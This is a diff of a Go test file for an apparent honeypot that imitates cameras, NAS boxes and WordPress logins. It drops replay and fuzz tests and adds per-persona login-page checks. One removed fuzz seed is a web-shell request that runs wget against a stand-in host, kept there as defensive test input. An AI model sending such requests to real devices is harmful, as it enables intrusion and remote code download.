@@ -2,105 +2,11 @@ package pots
 
 import (
 	"crypto/sha256"
-	"encoding/base64"
 	"encoding/hex"
-	"encoding/json"
 	"fmt"
-	"net"
 	"strings"
 	"testing"
-
-	"forager/conn/ring"
 )
-
-// webEvent is an event of a web pot.
-type webEvent struct {
-	typ  string
-	data map[string]any
-}
-
-// String is what a table compares.
-func (e webEvent) String() string {
-	d := e.data
-	text := func(key string) string {
-		if v, ok := d[key+"_escaped"]; ok {
-			return "\\" + fmt.Sprint(v)
-		}
-		if v, ok := d[key]; ok {
-			return fmt.Sprint(v)
-		}
-		return "-"
-	}
-	switch e.typ {
-	case "request":
-		s := fmt.Sprintf("%s %s %s %s", text("method"), text("url"), text("version"), text("status"))
-		for _, key := range []string{"signature", "body", "error"} {
-			if v := text(key); v != "-" {
-				s += " " + key + "=" + v
-			}
-		}
-		return s
-	case "login.failed":
-		return fmt.Sprintf("login %s %s:%s", text("auth"), text("username"), text("password"))
-	case "session.file_download":
-		return "download " + text("url")
-	case "session.data":
-		return "data " + text("payload")
-	}
-	return e.typ
-}
-
-// web is a web pot that is never started.
-type web struct {
-	n *node
-	i *instance
-}
-
-func newWeb(t *testing.T, line string) *web {
-	t.Helper()
-	n := newNode(t, Config{StateDir: t.TempDir()})
-	t.Cleanup(n.ring.Close)
-	return &web{n, n.handlerOf(line)}
-}
-
-// talk says text in pieces, and returns what was heard and what was told.
-func (w *web) talk(text string, piece int) (heard string, told []webEvent) {
-	w.n.t.Helper()
-	peer := &mute{say: []byte(text), chunk: piece}
-	w.n.serve(w.i, peer)
-	return string(peer.heard), w.told()
-}
-
-func (w *web) told() (list []webEvent) {
-	w.n.t.Helper()
-	for w.n.ring.Peek(w.n.batch) > 0 {
-		var e ring.Event
-		for w.n.batch.Next(&e) {
-			data := map[string]any{}
-			mustNot(w.n.t, json.Unmarshal(e.Data, &data))
-			list = append(list, webEvent{strings.TrimPrefix(string(e.Type), string(e.Pot)+"."), data})
-		}
-		w.n.ring.Forget(w.n.batch.Last())
-	}
-	return list
-}
-
-func lines(list []webEvent) string {
-	var b strings.Builder
-	for _, e := range list {
-		fmt.Fprintln(&b, e)
-	}
-	return b.String()
-}
-
-// statuses are those of the answers in a stream.
-func statuses(heard string) string {
-	var list []string
-	for _, part := range strings.Split(heard, "HTTP/1.1 ")[1:] {
-		list = append(list, part[:3])
-	}
-	return strings.Join(list, " ")
-}
 
 const formWeb = "http listen=:1 auth=form server=Boa/0.94.14rc21"
 
@@ -400,122 +306,29 @@ func TestRoutes(t *testing.T) {
 	}
 }
 
-// TestWebRealPayloads: whatever real attackers sent anywhere is told by each
-// web pot, byte for byte when it is no HTTP and no TLS.
-func TestWebRealPayloads(t *testing.T) {
-	for _, line := range []string{"http listen=:1", "cwmp listen=:1", "upnp listen=:1", "https listen=:1"} {
-		w := newWeb(t, line)
-		for _, p := range payloads(t) {
-			if strings.Trim(p, "\r\n") == "" {
-				continue // no request, and no need to tell
-			}
-			heard, told := w.talk(p, 1<<20)
-			if len(told) == 0 {
-				t.Errorf("%s: nothing told of %q, answered %q", line, p, heard)
-				continue
-			}
-			if told[0].typ == "session.data" && len(p) < MaxField {
-				if got := fieldBytes(t, told[0].data, "payload"); got != p && got != strings.TrimLeft(p, "\r\n") {
-					t.Errorf("%s: %q told as %q", line, p, got)
-				}
-			}
-		}
-	}
-}
-
-// TestWebNoAllocation: a session costs no memory but that of pools.
-func TestWebNoAllocation(t *testing.T) {
-	if raceDetector {
-		t.Skip("the race detector's pools forget on purpose")
-	}
-	w := newWeb(t, formWeb)
-	peer := &mute{chunk: 1 << 20}
-	say := []byte(httpLoginRequest)
-	c := &Conn{nc: peer, l: &listener{inst: w.i}, session: 1, idle: httpIdle}
-	if n := testing.AllocsPerRun(200, func() {
-		peer.say, peer.heard = say, peer.heard[:0]
-		c.start, c.in = c.l.now(), 0
-		c.ended.Store(0)
-		w.i.handler.Serve(c)
-	}); n != 0 {
-		t.Errorf("%v allocations", n)
-	}
-}
-
-// FuzzWeb: whatever comes, the session does the same in every cut.
-func FuzzWeb(f *testing.F) {
-	for _, s := range []string{
-		"GET / HTTP/1.1\r\n\r\n", "POST /login.cgi HTTP/1.1\r\nContent-Length: 13\r\n\r\nuser=a&pass=bGET / HTTP/1.0\r\n\r\n",
-		"POST /xmlrpc.php HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n2\r\n<a\r\n0\r\n\r\n", "GET /shell?wget+http://a.b/c\r\n",
-		"GET / HTTP/1.1\r\nAuthorization: Basic " + base64.StdEncoding.EncodeToString([]byte("a:b")) + "\r\n\r\n", "\x16\x03\x01\x00\x05\x01\x00\x00\x01\x03",
+// TestWebPersonas: each device's own login page is where its persona says, and
+// refuses there.
+func TestWebPersonas(t *testing.T) {
+	for _, c := range []struct{ persona, say, status, want string }{
+		{"camera", "GET / HTTP/1.0\r\n\r\n", "", "HTTP/1.0 200 OK\r\nContent-Type: text/html\r\nServer: uc-httpd 1.0.0\r\n"},
+		{"camera", "POST /Login.htm HTTP/1.1\r\nContent-Length: 0\r\n\r\n", "", "NETSurveillance WEB"},
+		{"nas", "GET / HTTP/1.1\r\n\r\n", "302", "Location: /cgi-bin/\r\n"},
+		{"nas", "GET /cgi-bin/ HTTP/1.1\r\n\r\n", "200", "Turbo NAS"},
+		{"nas", "POST /cgi-bin/authLogin.cgi HTTP/1.1\r\nContent-Length: 0\r\n\r\n", "200", "<authPassed><![CDATA[0]]>"},
+		{"nas", "GET /nothing HTTP/1.1\r\n\r\n", "404", "Not Found"},
+		{"ubuntu", "GET /wp-login.php HTTP/1.1\r\n\r\n", "200", "Log In &lsaquo; Blog"},
+		{"ubuntu", "POST /wp-login.php HTTP/1.1\r\nContent-Length: 0\r\n\r\n", "200", "password you entered is incorrect"},
+		{"ubuntu", "POST /nothing HTTP/1.1\r\nContent-Length: 0\r\n\r\n", "404", "Apache/2.4.41 (Ubuntu) Server"},
+		{"ubuntu", "GET /.git/HEAD HTTP/1.1\r\n\r\n", "200", "refs/heads/master"},
 	} {
-		f.Add([]byte(s), 3)
+		n := newNode(t, Config{Persona: c.persona})
+		w := &web{n, n.handlerOf("http listen=:1")}
+		if heard, _ := w.talk(c.say, 1<<20); statuses(heard) != c.status || !strings.Contains(heard, c.want) {
+			t.Errorf("%s, %q: %q", c.persona, c.say, heard)
+		}
+		n.ring.Close()
 	}
-	n := newNode(&testing.T{}, Config{})
-	i := n.handlerOf(formWeb)
-	f.Fuzz(func(t *testing.T, say []byte, piece int) {
-		if piece < 1 || len(say) > 64<<10 {
-			return
-		}
-		w := &web{n, i}
-		n.t = t
-		a, told := w.talk(string(say), min(piece, len(say)+1))
-		b, again := w.talk(string(say), len(say)+1)
-		if refusedEarly(told) || refusedEarly(again) {
-			return // what is told of it is what had come by then
-		}
-		if x, y := undatedAll(a), undatedAll(b); x != y {
-			t.Errorf("in pieces %q, at once %q", x, y)
-		}
-		if x, y := lines(told), lines(again); x != y {
-			t.Errorf("in pieces %q, at once %q", x, y)
-		}
-	})
-}
-
-func refusedEarly(told []webEvent) bool {
-	for _, e := range told {
-		if e.typ == "session.data" || e.data["error"] != nil {
-			return true
-		}
-	}
-	return false
-}
-
-// undatedAll drops the interim answer too, which is not sent when the body is
-// there already.
-func undatedAll(s string) string {
-	s = strings.ReplaceAll(s, "HTTP/1.1 100 Continue\r\n\r\n", "")
-	for _, part := range strings.Split(s, "Date: ")[1:] {
-		date, _, _ := strings.Cut(part, "\r\n")
-		s = strings.Replace(s, date, "*", 1)
-	}
-	return s
-}
-
-// TestWebLeavesNothing: every payload of the corpus over a real connection;
-// the node's clean-up checks that no goroutine and no descriptor stays.
-func TestWebLeavesNothing(t *testing.T) {
-	n := newNode(t, Config{}).run()
-	n.pots("http listen=127.0.0.1:0", "https listen=127.0.0.1:0", "upnp listen=127.0.0.1:0")
-	for _, id := range []string{"http", "https", "upnp"} {
-		list := payloads(t)
-		if testing.Short() {
-			list = list[:100]
-		}
-		for _, p := range list {
-			c := dial(t, n.addr(id))
-			c.send(p)
-			_ = c.Conn.(*net.TCPConn).CloseWrite() // it may be closed already
-			c.rest()
-			c.Close()
-		}
-		await(t, id+": no connection left", func() bool {
-			info, _ := n.m.Info(id)
-			return info.Counters.Open == 0 && info.Counters.Conns == uint64(len(list))
-		})
-	}
-	if len(n.errs) > 0 {
-		t.Error(<-n.errs)
+	if _, err := newHTTPFace(&Setup{Persona: "no-such", Options: &Options{}}); err == nil {
+		t.Error("a persona that is not there")
 	}
 }
